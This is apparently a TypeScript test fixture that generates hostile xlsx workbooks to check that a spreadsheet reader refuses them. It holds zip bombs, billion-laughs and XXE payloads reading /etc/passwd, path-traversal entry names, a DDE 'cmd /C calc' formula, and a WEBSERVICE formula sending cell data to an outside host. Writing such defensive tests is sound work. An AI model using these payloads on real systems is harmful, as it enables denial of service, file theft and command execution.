import { strToU8, zipSync } from 'fflate';
import { packByHand } from '../zip/zip.test-helper.js';
import { handmadeFiles, type Handmade } from './handmade.test-helper.js';

/** A file that somebody could make to use up time or memory, to lead out of the file, or to have something run. */
export interface Hostile {
  readonly name: string;
  readonly make: () => Uint8Array;
  /** What it is refused with; without one it is read, since all that is wrong with it costs nothing. */
  readonly code?: string;
}

const SHEET = 'xl/worksheets/sheet1.xml';

/** Numbers that look like chance, the same each time: what is too regular is refused for being packed too well. */
function noise(): () => number {
  let seed = 1;
  return () => (seed = (seed * 48_271) % 2_147_483_647);
}

/** Pieces, each by its number, until they come to so many characters. */
function filled(length: number, piece: (index: number, chance: () => number) => string): string {
  const chance = noise();
  const pieces: string[] = [];
  for (let index = 0, done = 0; done < length; index += 1) {
    const next = piece(index, chance);
    pieces.push(next);
    done += next.length;
  }
  return pieces.join('');
}

const many = (count: number, piece: (index: number) => string): string => Array.from({ length: count }, (_, index) => piece(index)).join('');

/** Packed in a hurry: these files are large, and how well they are packed is no matter. */
const pack = (files: Readonly<Record<string, string | Uint8Array>>): Uint8Array =>
  zipSync(Object.fromEntries(Object.entries(files).map(([name, content]) => [name, typeof content === 'string' ? strToU8(content) : content])), { level: 1 });
const handmade = (workbook: Handmade): Uint8Array => pack(handmadeFiles(workbook));
const withRows = (rows: string, more: Handmade = {}): Uint8Array => handmade({ sheets: { Sheet1: `<sheetData>${rows}</sheetData>` }, ...more });

/** A workbook whose only sheet has this in its file. */
const sheet = (content: string): Uint8Array => handmade({ sheets: { Sheet1: content } });
const text = (value: string): string => `<c t="inlineStr"><is><t>${value}</t></is></c>`;
const replacing = (path: string, content: string | Uint8Array): Uint8Array => pack({ ...handmadeFiles({}), [path]: content });

/** A sheet of zeros, packed by hand, so that it can say what it is not. */
function zeros(length: number, says: number = length): Uint8Array {
  const content = new Uint8Array(length);
  return packByHand(Object.entries({ ...handmadeFiles({}), [SHEET]: content })
    .map(([name, plain]) => ({ name, content: plain, ...(name === SHEET ? { size: says } : {}) })));
}

/**
 * What is packed in blocks that hold nothing, each with tables of its own: they cost more to prepare than anything else that
 * so few bytes can ask for.
 *
 * @param fours four blocks at a time, which come to 47 bytes.
 */
function emptyBlocks(fours: number): Uint8Array {
  const number = (value: number, bits: number): number[] => Array.from({ length: bits }, (_, at) => (value >> at) & 1);
  const run = (length: number): number[] => [0, ...number(length - 11, 7)];
  // A code of one bit for a run of zeros, and of two for 0 and 1: then 256 letters of which the first has a code, and the end.
  const lengths = [0, 0, 1, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2].flatMap((length) => number(length, 3));
  const block = (last: number): number[] =>
    [last, ...number(2, 2), ...number(0, 5), ...number(0, 5), ...number(14, 4), ...lengths, 1, 1, ...run(138), ...run(117), 1, 1, 1, 1, 1];
  const four = (last: number): number[] => {
    const bits = [...block(0), ...block(0), ...block(0), ...block(last)];
    return Array.from({ length: bits.length / 8 }, (_, at) => bits.slice(at * 8, at * 8 + 8).reduce((byte, bit, index) => byte | (bit << index), 0));
  };
  const bytes = new Uint8Array(fours * 47);
  const middle = four(0);
  for (let at = 0; at < fours - 1; at += 1) bytes.set(middle, at * 47);
  bytes.set(four(1), (fours - 1) * 47);
  return bytes;
}

const inEmptyBlocks = (fours: number): Uint8Array =>
  packByHand(Object.entries(handmadeFiles({})).map(([name, content]) => ({ name, ...(name === SHEET ? { packed: emptyBlocks(fours) } : { content }) })));

function sharedBytes(): Uint8Array {
  const inner = packByHand([{ name: SHEET, content: 'x'.repeat(2_000) }]);
  return packByHand([{ name: 'outer', content: inner, method: 0 }, { name: SHEET, content: 'x'.repeat(2_000), header: 35 }]);
}

const OLE = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
const ole = (word: string): Uint8Array => Uint8Array.from([...OLE, ...Array<number>(1_000).fill(0), ...[...word].flatMap((letter) => [letter.charCodeAt(0), 0])]);

function changedAt(bytes: Uint8Array, from: number, ...values: number[]): Uint8Array {
  const changed = bytes.slice();
  changed.set(values, from < 0 ? bytes.length + from : from);
  return changed;
}

/** Every way of being hostile that we have thought of. */
export const HOSTILE: readonly Hostile[] = [
  // What is no workbook that can be read.
  { name: 'nothing', make: () => new Uint8Array(0), code: 'workbook.empty' },
  { name: 'a text under the name of a workbook', make: () => strToU8('Statement,Level\n'), code: 'workbook.not-packed' },
  { name: 'an old workbook', make: () => ole('Workbook'), code: 'workbook.old-format' },
  { name: 'a workbook locked with a password', make: () => ole('EncryptedPackage'), code: 'workbook.password' },
  { name: 'macros', make: () => replacing('xl/vbaProject.bin', 'x'), code: 'workbook.macros' },
  { name: 'macros of the kind from before programs', make: () => replacing('xl/macrosheets/sheet1.xml', '<a/>'), code: 'workbook.macros' },
  { name: 'a file that ends too early', make: () => sheet('<sheetData/>').slice(0, -40), code: 'workbook.truncated' },
  { name: 'more than sixteen megabytes', make: () => new Uint8Array(16_000_001), code: 'workbook.too-large' },

  // What is wrong with the packing.
  { name: 'zeros that come to a hundred megabytes', make: () => zeros(81_000_000), code: 'workbook.unpacks-too-large' },
  { name: 'zeros that are packed to a thousandth', make: () => zeros(30_000_000), code: 'workbook.packed-too-well' },
  { name: 'zeros that say that they are few', make: () => zeros(30_000_000, 900_000), code: 'workbook.damaged' },
  { name: 'six megabytes of blocks that hold nothing', make: () => inEmptyBlocks(127_000), code: 'workbook.not-xml' },
  { name: 'more blocks that hold nothing', make: () => inEmptyBlocks(128_000), code: 'workbook.packed-too-large' },
  { name: 'many files that come to too much together', make: () => pack(Object.fromEntries(Array.from({ length: 100 }, (_, at) => [`${at}.xml`, new Uint8Array(990_000)]))), code: 'workbook.unpacks-too-large' },
  { name: 'a workbook within a workbook, which is not opened', make: () => replacing('xl/embeddings/inner.xlsx', zeros(10_000_000)) },
  { name: 'files that share their bytes', make: sharedBytes, code: 'workbook.overlapping' },
  { name: 'a checksum that is wrong', make: () => packByHand(Object.entries(handmadeFiles({})).map(([name, content]) => ({ name, content, ...(name === SHEET ? { crc: 1 } : {}) }))), code: 'workbook.damaged' },
  { name: 'a packed file of more than four gigabytes', make: () => changedAt(sheet('<sheetData/>'), -6, 0xff, 0xff, 0xff, 0xff), code: 'workbook.packed-otherwise' },
  { name: 'a path that leads out', make: () => packByHand([{ name: '../../etc/passwd', content: 'x' }]), code: 'workbook.unsafe-path' },
  { name: 'a path of another system', make: () => packByHand([{ name: 'C:\\evil.xml', content: 'x' }]), code: 'workbook.unsafe-path' },
  { name: 'one name twice', make: () => packByHand([{ name: SHEET, content: 'a' }, { name: SHEET, content: 'b' }]), code: 'workbook.listed-twice' },
  { name: 'two names that differ by case', make: () => packByHand([{ name: SHEET, content: 'a' }, { name: SHEET.toUpperCase(), content: 'b' }]), code: 'workbook.listed-twice' },
  { name: 'another name in the file itself', make: () => packByHand([{ name: SHEET, content: 'a', headerName: 'xl/workbook.xml' }]), code: 'workbook.damaged' },
  { name: 'three thousand files', make: () => pack(Object.fromEntries(Array.from({ length: 3_000 }, (_, at) => [`${at}.xml`, 'x']))), code: 'workbook.too-many-files' },
  { name: 'two thousand names of four thousand letters, asked for five hundred times', make: () => pack({
    ...handmadeFiles({ sheets: Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`S${at}`, '<sheetData/>'])) }),
    ...Object.fromEntries(Array.from({ length: 1_400 }, (_, at) => [`${'n'.repeat(4_000)}${at}`, ''])),
  }) },

  // What is wrong with the XML.
  { name: 'a billion laughs', make: () => replacing('xl/workbook.xml', `<!DOCTYPE a [<!ENTITY a "ha">${many(30, (at) => `<!ENTITY a${at} "${`&a${at === 0 ? '' : at - 1};`.repeat(10)}">`)}]><workbook>&a29;</workbook>`), code: 'workbook.document-type' },
  { name: 'one long entity many times', make: () => replacing('xl/workbook.xml', `<!DOCTYPE a [<!ENTITY a "${'ha'.repeat(50_000)}">]><workbook>${'&a;'.repeat(50_000)}</workbook>`), code: 'workbook.document-type' },
  { name: 'an entity that reads a file', make: () => replacing('xl/workbook.xml', '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><workbook>&a;</workbook>'), code: 'workbook.document-type' },
  { name: 'elements within one another without an end', make: () => sheet('<a>'.repeat(100_000)), code: 'workbook.too-deep' },
  { name: 'twenty million tags', make: () => sheet(filled(78_000_000, (at, chance) => (at % 40 === 0 ? `<a b="${chance()}"/>` : '<a/>'))), code: 'workbook.too-many-tags' },
  { name: 'tags of twenty thousand attributes', make: () => sheet(filled(2_000_000, (_, chance) => `<a${many(20_000, (at) => ` a${at}=""`)} b="${chance()}"/>`)), code: 'workbook.too-many-attributes' },
  { name: 'tags of ninety attributes', make: () => sheet(filled(60_000_000, (_, chance) => `<a${many(90, (at) => ` a${at}=""`)} b="${chance()}"/>`)), code: 'workbook.too-many-tags' },
  { name: 'a tag without an end', make: () => sheet(`<a ${filled(2_000_000, (at, chance) => `a${at}="${chance()}" `)}/>`), code: 'workbook.text-too-long' },
  { name: 'a comment without an end that is full of tags', make: () => sheet(`<!--${filled(2_000_000, (_, chance) => `<a>${chance()}</a>`)}-->`), code: 'workbook.text-too-long' },
  { name: 'an instruction without an end', make: () => sheet(`<?a ${filled(2_000_000, (_, chance) => `<a>${chance()}`)}?>`), code: 'workbook.text-too-long' },
  { name: 'a text without an end that is full of tags', make: () => sheet(`<sheetData><row>${text(`<![CDATA[${filled(2_000_000, (_, chance) => `<a>${chance()}`)}]]>`)}</row></sheetData>`), code: 'workbook.text-too-long' },
  { name: 'entities and nothing else', make: () => sheet(filled(70_000_000, (_, chance) => `<a>${`&amp;&#${65 + (chance() % 26)};`.repeat(400)}${chance()}</a>`)) },
  { name: 'tiny comments without an end', make: () => sheet(filled(2_000_000, (_, chance) => `<!--${chance() % 9}-->`)), code: 'workbook.text-too-long' },

  // What is too much of what a workbook may hold.
  { name: 'a million empty rows', make: () => sheet(`<sheetData>${many(1_000_000, (at) => `<row r="${at + 1}" spans="1:5"/>`)}</sheetData>`) },
  { name: 'rows formatted down to the last', make: () => sheet(`<sheetData>${many(1_048_576, (at) => `<row r="${at + 1}" spans="1:5" s="4" customFormat="1" ht="15"/>`)}</sheetData>`) },
  { name: 'five hundred sheets that are kept in one file of a million rows', make: () => {
    const files = handmadeFiles({ sheets: Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`S${at}`, ''])) });
    const links = files['xl/_rels/workbook.xml.rels']!.replaceAll(/worksheets\/sheet\d+\.xml/g, 'worksheets/sheet1.xml');
    return pack({ ...files, 'xl/_rels/workbook.xml.rels': links, [SHEET]: `<worksheet><sheetData>${many(1_000_000, (at) => `<row r="${at + 1}"/>`)}</sheetData></worksheet>` });
  }, code: 'workbook.sheets-in-one' },
  { name: 'two cells as far apart as they can be', make: () => withRows('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>') },
  { name: 'a row that is none', make: () => withRows('<row r="many"><c><v>1</v></c></row>'), code: 'workbook.no-such-cell' },
  { name: 'a row after the last', make: () => withRows('<row r="1048576"/><row><c><v>1</v></c></row>'), code: 'workbook.no-such-cell' },
  { name: 'two hundred thousand cells', make: () => withRows(many(200, (row) => `<row r="${row + 1}">${many(1_000, (column) => `<c><v>${row * column}</v></c>`)}</row>`)) },
  { name: 'two hundred thousand rows of one cell', make: () => withRows(many(200_000, (row) => `<row r="${row + 1}">${text(`Statement ${row}`)}</row>`)) },
  { name: 'more cells than that', make: () => withRows(many(210, (row) => `<row r="${row + 1}">${many(1_000, (column) => `<c><v>${row * column}</v></c>`)}</row>`)), code: 'workbook.too-many-cells' },
  { name: 'two thousand sheets', make: () => handmade({ sheets: Object.fromEntries(Array.from({ length: 1_900 }, (_, at) => [`S${at}`, '<sheetData/>'])) }), code: 'workbook.too-many-sheets' },
  { name: 'five hundred sheets with names of twenty thousand letters', make: () => handmade({ sheets: Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`${filled(20_000, (_index, chance) => String(chance()))}${at}`, '<sheetData/>'])) }), code: 'workbook.too-much-text' },
  { name: 'shared texts without an end', make: () => withRows('', { strings: filled(12_000_000, (at, chance) => `<si><t>${'x'.repeat(400)}${at}${chance()}</t></si>`) }), code: 'workbook.too-much-text' },
  { name: 'one shared text in many pieces', make: () => withRows('', { strings: `<si>${filled(12_000_000, (at, chance) => `<r><t>${'x'.repeat(400)}${at}${chance()}</t></r>`)}</si>` }), code: 'workbook.too-much-text' },
  { name: 'hundreds of thousands of empty shared texts', make: () => withRows('', { strings: filled(4_000_000, (at, chance) => `<si${at % 20 === 0 ? ` a="${chance()}"` : ''}/>`) }), code: 'workbook.too-many-texts' },
  { name: 'one long shared text in every cell', make: () => withRows(many(250, (row) => `<row r="${row + 1}">${many(1_000, (column) => `<c t="s" s="${(row * column) % 97}"><v>0</v></c>`)}</row>`), { strings: `<si><t>${'x'.repeat(32_000)}</t></si>` }), code: 'workbook.too-much-text' },
  { name: 'one cell of ten megabytes', make: () => withRows(`<row>${text(filled(10_000_000, (_, chance) => String(chance())))}</row>`), code: 'workbook.text-too-long' },
  { name: 'one cell with a million values', make: () => withRows(`<row><c>${filled(15_000_000, (_, chance) => `<v>${chance()}</v>`)}</c></row>`), code: 'workbook.too-much-text' },
  { name: 'texts of letters that come to eighteen each when they are compared', make: () => withRows(many(8_000, (row) => `<row r="${row + 1}">${text(`\uFDFA${row}`.repeat(150))}</row>`)) },
  { name: 'formulas without an end', make: () => withRows(filled(12_000_000, (_, chance) => `<row><c><f>${'A1+'.repeat(300)}${chance()}</f><v>1</v></c></row>`)), code: 'workbook.too-much-text' },
  { name: 'a number of three hundred thousand digits that is none', make: () => withRows(`<row><c><v>${'1'.repeat(290_000)}x</v></c></row>`), code: 'workbook.no-number' },
  { name: 'a format of thirty thousand brackets', make: () => withRows('', { styles: `<numFmts><numFmt numFmtId="164" formatCode="${'[&quot;'.repeat(30_000)}"/></numFmts>` }) },
  { name: 'one long format in every style', make: () => withRows('', { styles: `<numFmts><numFmt numFmtId="164" formatCode="${'[d'.repeat(100_000)}"/></numFmts><cellXfs>${many(60_000, (at) => `<xf numFmtId="164" fontId="${(at * at) % 97}"/>`)}</cellXfs>` }) },
  { name: 'seventy thousand styles', make: () => withRows('', { styles: `<cellXfs>${many(70_000, (at) => `<xf numFmtId="${at % 60}"/>`)}</cellXfs>` }), code: 'workbook.too-many-styles' },
  { name: 'a hundred thousand links', make: () => replacing('xl/_rels/workbook.xml.rels', `<Relationships>${many(100_000, (at) => `<Relationship Id="r${at}" Target="x"/>`)}</Relationships>`), code: 'workbook.too-many-links' },
  { name: 'a million merged ranges', make: () => sheet(`<sheetData/><mergeCells>${many(1_000_000, (at) => `<mergeCell ref="A${at + 1}:B${at + 1}"/>`)}</mergeCells>`), code: 'workbook.too-many-merged' },
  { name: 'ten thousand merged ranges over every row, and thousands of rows', make: () => sheet(
    `<sheetData><row r="1">${['Statement', '1 Emerging', '2 Secure'].map(text).join('')}</row>${many(4_900, (row) => `<row r="${row + 2}">${text(`Statement ${row}`)}${text('Low')}${text('High')}</row>`)}</sheetData>`
    + `<mergeCells>${many(10_000, (at) => `<mergeCell ref="${['E', 'F', 'G', 'H'][at % 4]!}${1 + (at % 7)}:XFD1048576"/>`)}</mergeCells>`) },
  { name: 'one merged range over the whole sheet', make: () => sheet(`<sheetData><row>${text('Statement')}</row></sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>`) },
  { name: 'lists to choose from over the whole sheet', make: () => sheet(`<sheetData/><dataValidations>${many(100_000, (at) => `<dataValidation type="list" sqref="A1:XFD1048576"><formula1>"a${at}"</formula1></dataValidation>`)}</dataValidations>`) },
  { name: 'a hundred thousand cells that are wrong', make: () => withRows(many(100_000, (row) => `<row r="${row + 1}"><c><v>x</v></c></row>`)), code: 'workbook.no-number' },

  // What a program could be led by.
  { name: 'links to other workbooks, which are told and not followed', make: () => replacing('xl/externalLinks/externalLink1.xml', '<externalLink/>') },
  { name: 'XML in UTF-16', make: () => {
    const written = '\uFEFF<worksheet><sheetData/></worksheet>';
    return replacing(SHEET, Uint8Array.from([...written].flatMap((letter) => [letter.charCodeAt(0) & 0xff, letter.charCodeAt(0) >> 8])));
  } },
  { name: 'an error in a cell', make: () => withRows('<row><c t="e"><f>#REF!A1</f><v>#REF!</v></c></row>') },
  { name: 'dates that are numbers, counted from 1904', make: () => withRows('<row><c s="1"><v>44833</v></c></row>', { settings: '<workbookPr date1904="1"/>', styles: '<cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs>' }) },
  { name: 'formulas that would run something', make: () => withRows(`<row>${text('=cmd|\' /C calc\'!A0')}<c t="str"><f>WEBSERVICE("http://example.org/"&amp;A1)</f><v>x</v></c></row>`) },
];
